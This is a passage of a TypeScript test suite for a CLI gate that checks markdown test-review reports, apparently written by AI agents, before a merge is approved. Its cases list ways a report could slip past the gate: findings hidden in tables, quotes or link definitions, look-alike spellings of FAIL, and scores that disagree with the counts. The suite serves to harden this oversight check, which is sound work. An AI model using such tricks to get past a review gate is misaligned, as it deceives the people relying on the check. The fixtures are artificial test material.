    expect(r.verdict()).toMatchObject({ recommendation: 'Approve' });
  });

  test.each([
    ['a bold paragraph', hidden('## Notes\n\n**Critical severity** (blocking), `test.only` at tests/a.spec.ts:3 focuses the suite.')],
    [
      'a ### title under Recommendations',
      hidden(
        `${SHOULD}\n\n### 1. Critical severity (must fix), row C1: \`test.only\` at tests/a.spec.ts:3\n\nThe focused test skips the rest.`,
      ),
    ],
    ['an emoji list item', hidden('## Notes\n\n- \u{1F534} **Critical severity** (P-zero), `test.only` at tests/a.spec.ts:3')],
    [
      'a P-number, no severity word',
      hidden('## Notes\n\n- **P0 (Critical)** (row C1): `test.only` at tests/a.spec.ts:3 focuses the suite'),
    ],
    ['a table row', appendix('| Finding | Note |\n| --- | --- |\n| C1 | Critical: `.only` at tests/a.spec.ts:3 |')],
    [
      'a counted High restated as Critical',
      high.replace('## Decision', '## Notes\n\nCritical: the sleep at tests/a.spec.ts:4 (row H1).\n\n## Decision'),
    ],
  ])(
    '#165 a finding written as %s (a level with a row or place, no counted block): refused (exit 3)',
    async (_name, report) => await expectRefused(dir, report, /names a Critical violation at a row or place/),
  );

  test('#165 a counted finding restated with its own level, row and place is read as it is', async () => {
    const r = await review(
      dir,
      high.replace('## Decision', '## Notes\n\n- High: the sleep at tests/a.spec.ts:4 (row H1) is the one finding.\n\n## Decision'),
    );
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Request Changes', violations: { high: 1 } });
  });

  // A seventh round: the ledger's heading spelled otherwise, tabs and lazy lines in containers,
  // a paragraph over lines, a table's header row, a setext heading under a pipe, status marks.
  const ledgerAs = (heading: string, prose: string) =>
    clean.replace(
      '## Quality Score Breakdown\n\nTotal Bonus: +0',
      `## ${heading}\n\n${prose}\n\n\`\`\`text\nStarting Score:          100\nCritical Violations:     -0 × 10 = -0\nHigh Violations:         -0 × 5 = -0\nMedium Violations:       -0 × 2 = -0\nLow Violations:          -0 × 1 = -0\n\nTotal Bonus:             +0\n\nFinal Score:             100/100\nGrade:                   A\n\`\`\``,
    );
  test.each([['Quality Score **Breakdown**'], ['Quality Score _Breakdown_'], ['quality score breakdown']])(
    '#175 a finding written in the ledger (headed %j) is read like one anywhere: refused (exit 3), never Approve',
    async (heading) => {
      const report = ledgerAs(heading, '**Critical**: `tests/a.spec.ts:3` commits `test.only` (row C2), so every sibling test is skipped.');
      expect(renderGfm(report)).toContain('<strong>Critical</strong>');
      await expectRefused(dir, report, /line \d+ names a Critical violation at a row or place/);
    },
  );

  test('#175 the ledger under a heading spelled with emphasis is the ledger the published report rewrites', async () => {
    const r = await review(dir, ledgerAs('Quality Score **Breakdown**', 'A note the rewrite replaces.'));
    expect(r.code, r.stderr).toBe(0);
    const published = readFileSync(join(dir, 'test-review.md'), 'utf8');
    expect(published).toMatch(/^Raw Deduction Score: +100\/100$/m);
    expect(published).not.toContain('A note the rewrite replaces.');
  });

  const notes = (s: string) => hidden(`## Notes\n\n${s}`);
  test.each([
    [
      'a tab after nested quote markers',
      notes(
        '>>\t**Blocking finding:**\n    - **Severity**: P0 (Critical), row C2: `tests/a.spec.ts:3` commits `test.only`,\n    so every sibling test is skipped in CI.',
      ),
    ],
    [
      'a tab after a list marker',
      notes('1. \t **Blocking finding:**\n\t> **Severity**: P0 (Critical), row C2: `tests/a.spec.ts:3` commits `test.only`.'),
    ],
    [
      'a lazy line after nested quotes (no tab)',
      notes('1. Blocking finding\n> > > Note:\n    - **Severity**: P0 (Critical), row C2: `tests/a.spec.ts:3` commits `test.only`.'),
    ],
  ])('#176 %s: code to markdown-it, text on GitHub: refused (exit 3), never Approve', async (_name, report) => {
    expect(renderGfm(report)).not.toMatch(/<pre>/);
    await expectRefused(dir, report, /has a tab before its text|indented code right under a line of text/);
  });

  test.each([
    [
      'a level on one line, the row and place on the next',
      notes('**Critical (P0)**\nrow C2 — `tests/a.spec.ts:3` commits `test.only`, so every sibling test is skipped in CI.'),
      /names a Critical violation at a row or place/,
    ],
    ['in a quote', notes('> Critical:\n> `test.only` at tests/a.spec.ts:3 (row C2).'), /names a Critical violation at a row or place/],
    [
      'a severity word on one line, its level on the next',
      notes('The focused test at line 3 has the severity\nCritical.'),
      /gives a \*\*Severity\*\* inside a line/,
    ],
    [
      'a P-number on one line, the severity word on the next',
      notes("P0 (Critical) is what the\nfocused test's sev is."),
      /gives a \*\*Severity\*\* inside a line/,
    ],
  ])(
    '#177 a paragraph over lines (%s) is read as the page shows it: refused (exit 3)',
    async (_name, report, reason) => await expectRefused(dir, report, reason),
  );

  test.each([
    [
      'a one-column table',
      '| **Severity**: P0 (Critical) — `test.only` committed in `tests/a.spec.ts`: every sibling test is skipped |\n| --- |',
    ],
    ['a column of a wider table', '| Finding | Severity: Critical | Note |\n| --- | --- | --- |\n| `test.only` | - | tests/a.spec.ts |'],
    ['the second column of two', '| Finding | Severity P0 (Critical) |\n| --- | --- |\n| `test.only` at tests/a.spec.ts | - |'],
  ])('#178 a severity in a table header cell (%s) is read: refused (exit 3), never Approve', async (_name, table) => {
    expect(renderGfm(notes(table))).toContain('<th>');
    await expectRefused(dir, notes(table), /table cell read as a \*\*Severity\*\* label that gives a severity too|gives a severity/);
  });

  test('#178 a verdict in a header cell after the first is read: refused (exit 3)', async () =>
    await expectRefused(
      dir,
      notes('| Decision | Recommendation: Block |\n| --- | --- |\n| why | a focused test |'),
      /table cell that reads as a \*\*Recommendation\*\*/,
    ));

  test.each([
    ['a one-column table row', '| Critical Issues (Must Fix) |\n---'],
    ['the same in a quote', '> | Critical Issues (Must Fix) |\n> ---'],
  ])('#179 a line of dashes under %s is a setext heading on GitHub: refused (exit 3)', async (_name, heading) => {
    const report = notes(
      `Nothing else to add.\n\n${heading}\n\n### 1. Focused test committed (P0, Critical)\n\n\`test.only\` in \`tests/a.spec.ts\` silences every sibling test in CI.`,
    );
    expect(renderGfm(report)).toMatch(/<h[12]>[^<]*Critical Issues/);
    await expectRefused(dir, report, /underlines the line above as a heading/);
  });

  test.each([
    [
      'in a column headed "Assessment"',
      assessment('| Criterion | Assessment |\n| --- | --- |\n| Disabled or Focused Tests | ❌ FAIL |\n| Hard Waits | ✅ PASS |'),
    ],
    [
      'in a column with no header',
      assessment('| Criterion | |\n| --- | --- |\n| Disabled or Focused Tests | ❌ FAIL |\n| Hard Waits | ✅ PASS |'),
    ],
    ["in a key-value table's header row", assessment('| Disabled or Focused Tests | ❌ FAIL |\n| --- | --- |\n| Hard Waits | ✅ PASS |')],
    [
      'in words beside passes',
      assessment('| Criterion | Review |\n| --- | --- |\n| Hard Waits | ✅ PASS |\n| Disabled or Focused Tests | Needs rework |'),
    ],
    ['in a list', assessment('- Disabled or Focused Tests: ❌ FAIL (`test.only` committed)\n- Hard Waits: ✅ PASS')],
    ['in a list, in words', assessment('- Disabled or Focused Tests: Failed\n- Hard Waits: Passed')],
  ])('#180 a criterion FAIL %s: refused (exit 3), never Approve', async (_name, report) => {
    expect(renderGfm(report)).toMatch(/FAIL|Failed|Needs rework/);
    await expectRefused(dir, report, /marks "(?:- )?Disabled or Focused Tests.*FAIL/);
  });

  test('#180 a FAIL mark on a line naming no criterion needs a counted finding: refused (exit 3)', async () =>
    await expectRefused(dir, notes('❌ FAIL — the suite is not ready to merge.'), /counts nothing/));

  test('#180 passes in a column headed otherwise, and a FAIL the counted finding stands behind, are read as they are', async () => {
    const r = await review(
      dir,
      high.replace(
        '## Decision',
        '## Quality Criteria Assessment\n\n| Criterion | Assessment |\n| --- | --- |\n| Hard Waits (sleep, waitForTimeout) | ❌ FAIL |\n| Test IDs | ✅ PASS |\n\n- Hard Waits: ❌ FAIL (the sleep at line 4)\n- Isolation: ✅ PASS\n\n## Decision',
      ),
    );
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Request Changes', violations: { high: 1 } });
  });

  test.each([
    [
      'a table cell',
      assessment('| Criterion | Assessment |\n| --- | --- |\n| Disabled or Focused Tests | :x: |\n| Hard Waits | :white_check_mark: |'),
    ],
    ['a list, the mark before the name', assessment('- :red_circle: Disabled or Focused Tests\n- :no_entry: Isolation')],
    ['a nested list under the criterion', assessment('- Disabled or Focused Tests\n  - :x:')],
    ['a warning', notes(':warning: the focused test must go before merge.')],
  ])(
    '#188 an emoji shortcode GitHub shows as its emoji (%s): refused (exit 3), never Approve',
    async (_name, report) => await expectRefused(dir, report, /an emoji shortcode GitHub shows as its emoji/),
  );

  test.each([
    ['after an arrow', assessment('- Disabled or Focused Tests → Failed\n- Hard Waits → Passed')],
    ['in parentheses', assessment('- Disabled or Focused Tests (failed)')],
    ['in a table cell, in words', assessment('| Criterion | Assessment |\n| --- | --- |\n| Disabled or Focused Tests | Does not pass |')],
    ['spelled FAlL in a heading', assessment('### Disabled or Focused Tests: FAlL')],
    ['spelled FA1L in a heading', assessment('### Isolation: FA1L')],
  ])(
    '#189 a criterion FAIL %s: refused (exit 3), never Approve',
    async (_name, report) => await expectRefused(dir, report, /marks "[^"]*(?:Disabled or Focused Tests|Isolation).*FAIL/),
  );

  test.each([
    ['**Final Recommendation**: Block'],
    ['**Verdict**: Request Changes'],
    ['**Merge Decision** — Block (must fix before merge)'],
    ['| Verdict | Block |\n| --- | --- |\n| why | a focused test |'],
  ])(
    '#190 a verdict under another label (%j): refused (exit 3), never Approve',
    async (line) => await expectRefused(dir, notes(line), /shows a verdict under another label|Verdict.*FAIL|FAIL \(.*column "Verdict"\)/),
  );

  test.each([
    ['**Critical**: tests/a.spec.ts line 3 commits test.only. Must fix before merge.'],
    ['**Critical** (Disabled or Focused Tests): tests/a.spec.ts, line 3.'],
    ['**Critical**: the focused test in tests/a.spec.ts must go before merge.'],
  ])(
    '#191 a level with a reviewed file named in prose (%j) is a finding at a place: refused (exit 3)',
    async (line) => await expectRefused(dir, notes(line), /names a Critical violation at a row or place/),
  );

  test.each([
    [
      'a header cell naming the level over a row naming the place',
      '| Critical (must fix before merge) | Where |\n| --- | --- |\n| test.only committed: every sibling test is skipped in CI | tests/a.spec.ts:3 |',
    ],
    [
      "a list item's two paragraphs",
      '- **Critical**: test.only committed, so every sibling test is skipped in CI. Must fix before merge.\n\n  Found at tests/a.spec.ts:3 (row C2).',
    ],
  ])(
    '#192 a level and its place in %s, shown together: refused (exit 3)',
    async (_name, text) => await expectRefused(dir, notes(text), /names a Critical violation at a row or place/),
  );

  test('#90 a bonus inside a definition in the breakdown is never read (the page shows none)', async () => {
    const report = clean.replace('Total Bonus: +0', '[b]: /u "\nTotal Bonus: +30\n"');
    expect(renderGfm(report)).not.toContain('+30');
    const r = await review(dir, report);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/footnote definition/);
  });

  test('#90 a row wider than its header: the page drops the cell, so it is refused (exit 3)', async () => {
    const report = clean.replace('**Context Waivers Applied**: 0', '| Context Waivers Applied |\n| --- |\n| 0 | 3 |');
    expect(renderGfm(report)).not.toContain('3</td>');
    const r = await review(dir, report);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/more cells than its header: the page drops the extra ones/);
  });

  test('#90 a reviewed file listed only inside a link reference definition is not listed: exit 3', async () => {
    const two = repoWith({ 'tests/a.spec.ts': SPEC, 'tests/b.spec.ts': SPEC });
    const report = ownReport(['tests/a.spec.ts']).replace('- tests/a.spec.ts', `- tests/a.spec.ts\n\n${definition('tests/b.spec.ts')}`);
    expect(renderGfm(report)).not.toContain('b.spec.ts');
    const r = await review(two, report);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/is a link reference or footnote definition/);
  });

  test('#90 a labelled line of a million asterisks is read in linear time', () => {
    const report = clean.replace('## Decision', `## Notes\n\n**Convention Baseline**: ${'*'.repeat(1_000_000)}\n\n## Decision`);
    // Peeling the asterisks two at a time by copying took 30 s here (a 16 MiB line: hours); linear is about 1 s of CPU.
    const c0 = process.cpuUsage();
    expect(() => parseReport(report, { registry: PACKAGED_REGISTRY })).toThrow(/Convention Baseline\*\* must read/);
    expect(cpuMsSince(c0)).toBeLessThan(10_000);
  });
});

describe('#91 a changed test cannot leave the review set because the report says so', () => {
  test('#91 "Excluded From Review Set" naming a test the rules picked → exit 3', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC, 'tests/b.spec.ts': SPEC });
    const r = await review(dir, `${ownReport(['tests/a.spec.ts'])}\n## Excluded From Review Set\n\n- tests/b.spec.ts — out of scope\n`);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/lists tests\/b.spec.ts, a test the test-file rules put in the review set: it cannot be excluded/);
  });
  test('#91 a file only --test-glob admitted may leave, with the reason the scope agrees with', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC, 'checks/smoke.py': 'print(1)\n' });
    const r = await review(
      dir,
      `${ownReport(['tests/a.spec.ts'])}\n## Excluded From Review Set\n\n- checks/smoke.py — a script, no row\n`,
      '--test-glob',
      'checks/',
    );
    expect(r.code, r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ files: ['tests/a.spec.ts'], excludedFiles: ['checks/smoke.py'] });
  });
});

describe('#92 numbers are read only from the ledger', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  test('#92 a bonus in prose, a fence and a quote outside the ledger is not read', async () => {
    const decoy =
      '\nTotal Bonus: +30\n\n```\nTotal Bonus: +30\n```\n\n> Total Bonus: +30\n> **Total Violations**: 0 Critical, 0 High, 0 Medium, 0 Low\n';
    const r = await review(dir, high.replace('**Total Violations**', `${decoy}\n**Total Violations**`));
    expect(r.code).toBe(1);
    expect(r.verdict()).toMatchObject({ rawQualityScore: 95, qualityScore: 79, violations: { high: 1 } });
  });
  test('#92 two ledgers (a second Total Bonus in the breakdown) → exit 3', async () => {
    const r = await review(dir, clean.replace('Total Bonus: +0', 'Total Bonus: +0\n\n```\nTotal Bonus: +30\n```'));
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/2 Total Bonus lines: a report has one ledger/);
  });
});

describe('#315 a count is a whole number in 0-9, read whole or refused', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  const parse = (report: string) => parseReport(report, { registry: PACKAGED_REGISTRY });
  const counts = (line: string) => clean.replace('0 Critical, 0 High, 0 Medium, 0 Low', line);
  // Each was read as another number (the digits after the separator, the sign dropped): "1,000 Low" as 0 Low.
  test.each([
    ['a thousands separator', counts('0 Critical, 0 High, 0 Medium, 1,000 Low'), /Low as "1,000"/],
    ['a space as thousands separator', counts('0 Critical, 0 High, 0 Medium, 1\u202F000 Low'), /Low as "1\u202F000"/],
    ['a decimal count of no blocks', counts('0 Critical, 1.0 High, 0 Medium, 0 Low'), /High as "1\.0"/],
    ['a fraction', counts('0 Critical, 0 High, 0.5 Medium, 0 Low'), /Medium as "0\.5"/],
    ['a sign', counts('-1 Critical, 0 High, 0 Medium, 0 Low'), /Critical as "-1"/],
    ['a label first, a decimal after', counts('Critical: 0.9, High: 0, Medium: 0, Low: 0'), /Critical as "0\.9"/],
    ['Arabic-Indic digits', counts('0 Critical, \u0661 High, 0 Medium, 0 Low'), /High as "\u0661"/],
    ['fullwidth digits', counts('0 Critical, 0 High, \uFF12 Medium, 0 Low'), /Medium as "\uFF12"/],
    [
      'a ledger deduction with a decimal',
      clean.replace('Total Bonus: +0', 'Critical Violations: 1.0 × 10 = -10\n\nTotal Bonus: +0'),
      /Critical as "1\.0"/,
    ],
  ])('#315 %s → refused, naming the count', (_name, report, reason) => {
    expect(() => parse(report)).toThrow(reason);
  });
  test('#315 a P-number before the word is no count: "P1 High: 1" is 1 High', () => {
    const r = parse(high.replace('0 Critical, 1 High, 0 Medium, 0 Low', 'P0 Critical: 0, P1 High: 1, P2 Medium: 0, P3 Low: 0'));
    expect(r.violations).toEqual({ critical: 0, high: 1, medium: 0, low: 0 });
  });
  test('#315 through the bundle: "1,000 Low" was Approve at 100, exit 0', async () => {
    const r = await review(dir, counts('0 Critical, 0 High, 0 Medium, 1,000 Low'));
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(/\*\*Total Violations\*\* writes Low as "1,000"/);
  });
});

describe('#316 a report that recommends more than its counts give is never a pass', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  // Another model's finding in a shape the gate does not read (a table, a paragraph): counted 0, recommended as it meant.
  test.each([
    [
      'Block',
      clean.replace(/\*\*Recommendation\*\*: Approve/g, '**Recommendation**: Block'),
      /recommends Block but its counts \(0 Critical, 0 High, 0 Medium, 0 Low\) give Approve/,
    ],
    [
      'Request Changes',
      clean.replace(/\*\*Recommendation\*\*: Approve/g, '**Recommendation**: Request Changes'),
      /recommends Request Changes .* give Approve:/,
    ],
  ])('#316 %s over no counted finding → exit 3 (was Approve, exit 0)', async (_name, report, reason) => {
    await expectRefused(dir, report, reason);
  });
  test('#316 a recommendation laxer than the counts is still read, and the derived one gates', async () => {
    const r = await review(dir, high.replace(/\*\*Recommendation\*\*: Request Changes/g, '**Recommendation**: Approve with Comments'));
    expect(r.code).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Request Changes', reportedRecommendation: 'Approve with Comments' });
  });
});

describe('#343 a report that scores lower than its counts give is never a pass', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  // Another model's deductions in a table of its own (no finding block, nothing counted): the score it
  // wrote stands on findings the gate did not read, so the derived 100 was Approve (exit 0).
  const table = '| Check | Deduction |\n| --- | --- |\n| hard wait in tests/a.spec.ts | -35 |\n\n';
  const scored = (n: number) => clean.replace('**Quality Score**: 100/100', `**Quality Score**: ${n}/100`);
  test.each([
    [
      'the header score under Approve',
      scored(65),
      /\*\*Quality Score\*\* is 65\/100 but its counts \(0 Critical, 0 High, 0 Medium, 0 Low\) give 100/,
    ],
    [
      "the ledger's final score beside a table of deductions",
      clean.replace('Total Bonus: +0', `${table}Total Bonus: +0\n\n**Final Score**: 65/100`),
      /the ledger's final score is 65\/100 but its counts \(0 Critical, 0 High, 0 Medium, 0 Low\) give 100/,
    ],
    [
      'the grade beside a full score',
      clean.replace('**Quality Score**: 100/100', '**Quality Score**: 100/100 (D)'),
      /\*\*Quality Score\*\* grades D but its counts .* give A/,
    ],
    [
      "the ledger's grade",
      clean.replace('Total Bonus: +0', 'Total Bonus: +0\n\n**Grade**: F'),
      /the ledger's grade grades F but its counts .* give A/,
    ],
    // The template's score before the cap: 100 less the deductions, plus the bonus; never below the counts' floor.
    [
      'the header raw deduction score beside a full score',
      clean.replace('**Quality Score**: 100/100', '**Quality Score**: 100/100\n**Raw Deduction Score**: 65/100'),
      /\*\*Raw Deduction Score\*\* is 65\/100 but its counts .* give 100/,
    ],
    [
      "the ledger's raw deduction score",
      // Fenced, as the template writes the ledger: only the ledger's reader sees it.
      clean.replace('Total Bonus: +0', `${table}\`\`\`text\nTotal Bonus: +0\nRaw Deduction Score:     65/100\n\`\`\``),
      /the ledger's raw deduction score is 65\/100 but its counts .* give 100/,
    ],
  ])('#343 %s → exit 3 (was Approve at 100, exit 0)', (_name, report, reason) => expectRefused(dir, report, reason));
  test('#343 a score above the counts (a bonus, no cap applied) or below by a bonus left out is read; the derived one gates', async () => {
    const r = await review(dir, high.replace('**Quality Score**: 79/100', '**Quality Score**: 95/100'));
    expect(r.code).toBe(1);
    expect(r.verdict()).toMatchObject({ qualityScore: 79, reportedQualityScore: 95, recommendation: 'Request Changes' });
    // 20 Low and a +10 bonus give 90; 80 is the same counts with the bonus left out.
    const bonus = await review(
      dir,
      clean
        .replace('0 Medium, 0 Low', '0 Medium, 20 Low')
        .replace(/\*\*Recommendation\*\*: Approve/g, '**Recommendation**: Approve with Comments')
        .replace('Total Bonus: +0', 'Total Bonus: +10')
        .replace('**Quality Score**: 100/100', '**Quality Score**: 80/100'),
    );
    expect(bonus.code, bonus.stdout + bonus.stderr).toBe(0);
    expect(bonus.verdict()).toMatchObject({ qualityScore: 90, reportedQualityScore: 80, recommendation: 'Approve with Comments' });
  });
});

describe('#345 a ledger deduction written in words is refused, never skipped', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  // The line names a High deduction the counts do not hold; unread, the report passed Approve at 100 (exit 0).
  // A count written alone is a count: read, and held to **Total Violations** like `N × weight`.
  const words = /the ledger's line .* reads as no count: write it in digits/;
  const disagree = /the ledger deducts 1 High but \*\*Total Violations\*\* counts 0/;
  test.each([
    ['one × 5', 'High Violations: one × 5 = -5', words],
    ['a word and no product', '- High Violations: one (hard wait)', words],
    ['a count after other words', 'High Violations (hard wait): 1', words],
    ['a table row the counts do not hold', '| High Violations | 1 | -5 |', disagree],
    ['a count and a note the counts do not hold', '- High Violations: 1 (hard wait)', disagree],
  ])('#345 %s → exit 3', (_name, line, reason) =>
    expectRefused(dir, clean.replace('Total Bonus: +0', `${line}\n\nTotal Bonus: +0`), reason),
  );
  test('#345 a ledger of counts without weights that agree with the counts: read (exit 0)', async () => {
    const ledger = 'Critical Violations: 0\n| High Violations | 0 |\n- **Medium Violations**: 0 (none found)\nLow deductions: −0';
    const r = await review(dir, clean.replace('Total Bonus: +0', `${ledger}\n\nTotal Bonus: +0`));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ recommendation: 'Approve', qualityScore: 100 });
  });
});

describe('#344 a report that is not UTF-8 text is refused for what it is', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  const utf16 = (text: string) => Buffer.from(text, 'utf16le');
  const latin1 = Buffer.from(clean.replace('## Reviewed Files', 'Reviewed by Zo\u00eb.\n\n## Reviewed Files'), 'latin1');
  const withHigh = Buffer.from(high);
  test.each([
    // Windows PowerShell's Out-File and `>` write UTF-16 with a byte order mark: refused as "no front matter", a reason of no use.
    [
      'UTF-16 with its byte order mark',
      Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(clean)]),
      /is UTF-16 \(its byte order mark says so\): write it as UTF-8/,
    ],
    ['UTF-16 without one', utf16(clean), /holds a NUL byte on line 1 \(UTF-16 text\?\): write it as UTF-8/],
    // Read with U+FFFD in place of the byte, and passed Approve (exit 0).
    ['a Latin-1 byte in its prose', latin1, /is not UTF-8 from line 27: write it as UTF-8/],
    // A writer killed mid-character (the agent exited with its child still writing): the last character cut.
    ['a report cut inside a character', Buffer.concat([withHigh, Buffer.from('\u00e9').subarray(0, 1)]), /is not UTF-8 from line \d+/],
  ])('#344 %s → exit 3 naming the encoding', (_name, report, reason) => expectRefused(dir, report, reason));
  test('#344 a token in a UTF-16 report reaches the published copy in no encoding', async () => {
    const token = QUOTED[0]!;
    const report = Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(clean.replace('## Decision', `Seen: ${token}\n\n## Decision`))]);
    await expectRefused(dir, report, /is UTF-16/);
    const published = readFileSync(join(dir, 'test-review.md'));
    for (const text of [published.toString('latin1'), published.toString('utf16le'), published.toString('latin1').replace(/\0/g, '')])
      expect(text.includes(token), 'the token in the published report').toBe(false);
    expect(published.toString('utf8')).toContain('[REDACTED');
  });
  test('#344 a UTF-8 byte order mark is text and read as such', async () => {
    const r = await review(dir, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(clean)]));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ recommendation: 'Approve' });
  });
});

describe('#93 a severity in any spelling is that severity', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  test.each([['**Severity:** P1 (High)'], ['**Severity**: P1'], ['- Severity: High']])(
    '#93 %s under Recommendations gates as High (the old parser read it as prose)',
    async (line) => {
      const r = await review(dir, high.replace('**Severity**: P1 (High)', line));
      expect(r.code).toBe(1);
      expect(r.verdict()).toMatchObject({ recommendation: 'Request Changes', findings: [{ criterion_id: 'H1', severity: 'High' }] });
    },
  );
  test('#93 the High left out of the counts as well → exit 3, never a pass', async () => {
    const r = await review(
      dir,
      high
        .replace('**Severity**: P1 (High)', '**Severity:** P1 (High)')
        .replace('1 High', '0 High')
        .replace(/Request Changes/g, 'Approve'),
    );
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/says 0 High but the report documents 1 High/);
  });
});

describe('#94 disabling a test is a deletion', () => {
  test('#94 a test renamed to a name that no longer runs → removed coverage, exit 1 (waivable)', () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    git(dir, 'mv', 'tests/a.spec.ts', 'tests/a.spec.ts.off');
    commitAll(dir, 'disable');
    const r = cli(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code).toBe(1);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({
      reason: 'only test deletions in diff; nothing to review',
      deletedFiles: ['tests/a.spec.ts'],
      removedTests: [{ path: 'tests/a.spec.ts', renamedTo: 'tests/a.spec.ts.off' }],
    });
  });
  test('#94 a test deleted beside other changes: in the prompt and the verdict', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC, 'tests/old.spec.ts': SPEC });
    rmSync(join(dir, 'tests/old.spec.ts'));
    writeFileSync(join(dir, 'tests/a.spec.ts'), `${SPEC}// more\n`);
    commitAll(dir, 'delete one, change one');
    const dry = cli(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none']);
    expect(dry.stdout).toMatch(/---BEGIN REMOVED TESTS \w+---\n\[\n \{\n {2}"path": "tests\/old.spec.ts"\n \}\n\]/);
    const r = await review(dir, clean);
    expect(r.code, r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ removedTests: [{ path: 'tests/old.spec.ts' }] });
    expect(r.stdout).toContain('1 test file(s) removed: tests/old.spec.ts');
  });
});

describe('#230 a test the runner runs is in the review set, whatever its spelling', () => {
  const ONLY = "import { test } from 'vitest';\n\ntest.only('signs in', () => {});\n";
  test('#230 a focused test in tests/auth.test.mts beside a reviewed spec: the report that leaves it out is refused', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC, 'tests/auth.test.mts': ONLY });
    const r = await review(dir, clean);
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(/tests\/auth\.test\.mts/);
  });
  test.each([
    'src/login.spec.cts',
    'web/login.test.mtsx',
    '__tests__/login.mts',
    'app/src/androidTest/java/com/x/LoginActivity.kt',
    'shared/src/commonTest/kotlin/Login.kt',
    'integration_test/app_test.dart',
    'lib/login_test.rb',
    'src/MyApp.Tests/LoginShould.cs',
    'src/test/groovy/LoginSpec.groovy',
    'core/src/LoginSuite.scala',
    'api/src/main/java/LoginIT.java',
    'app/LoginTests.kt',
  ])('#230 %s alone is reviewed, never a skip', async (path) => {
    const dir = repoWith({ [path]: ONLY });
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({ promptOnly: true, files: [path], contextFiles: [] });
  });
});

describe('#231 what decides which tests run is reviewed with them', () => {
  const EXCLUDE =
    "import { defineConfig } from 'vitest/config';\n\nexport default defineConfig({ test: { exclude: ['tests/**'], passWithNoTests: true } });\n";
  test('#231 a vitest.config.ts that excludes every test beside a reviewed spec: the report that leaves it out is refused, and it can be named', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC, 'vitest.config.ts': EXCLUDE });
    const r = await review(dir, clean);
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(/vitest\.config\.ts/);
    const named = ownReport(
      ['tests/a.spec.ts', 'vitest.config.ts'],
      [{ severity: 'Critical', row: 'C1', path: 'vitest.config.ts', line: 3, title: 'Every test excluded' }],
    );
    const flagged = await review(dir, named);
    expect(flagged.code, flagged.stdout + flagged.stderr).toBe(1);
    expect(flagged.verdict()).toMatchObject({ recommendation: 'Block', files: ['tests/a.spec.ts', 'vitest.config.ts'] });
  });
  test.each([
    ['vite.config.mts', EXCLUDE],
    ['jest.config.js', "module.exports = { testPathIgnorePatterns: ['tests/'], passWithNoTests: true };\n"],
    ['web/playwright.config.ts', "export default { retries: 5, testIgnore: '**/auth*' };\n"],
    [
      'conftest.py',
      'import pytest\n\ndef pytest_collection_modifyitems(items):\n    for i in items:\n        i.add_marker(pytest.mark.skip)\n',
    ],
    ['pytest.ini', '[pytest]\naddopts = -k "not auth"\n'],
    ['.mocharc.yml', 'grep: nothing\n'],
    ['src/jest.setup.ts', 'globalThis.it = globalThis.it.skip;\n'],
    ['phpunit.xml.dist', '<phpunit><testsuites/></phpunit>\n'],
  ])('#231 %s alone is reviewed, never a skip', async (path, text) => {
    const dir = repoWith({ [path]: text });
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({ promptOnly: true, files: [path], contextFiles: [] });
  });
});

describe('#242 a runner configuration under a variant name is reviewed with the tests', () => {
  const EXCLUDE =
    "import { defineConfig } from 'vitest/config';\n\nexport default defineConfig({ test: { exclude: ['tests/**'], passWithNoTests: true } });\n";
  test('#242 a vitest.unit.config.ts (run as `vitest --config vitest.unit.config.ts`) that excludes every test beside a reviewed spec: the report that leaves it out is refused', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC, 'vitest.unit.config.ts': EXCLUDE });
    const r = await review(dir, clean);
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(/vitest\.unit\.config\.ts/);
  });
  test.each([
    ['vitest.config.e2e.ts', EXCLUDE],
    ['jest.e2e.config.js', "module.exports = { testPathIgnorePatterns: ['tests/'], passWithNoTests: true };\n"],
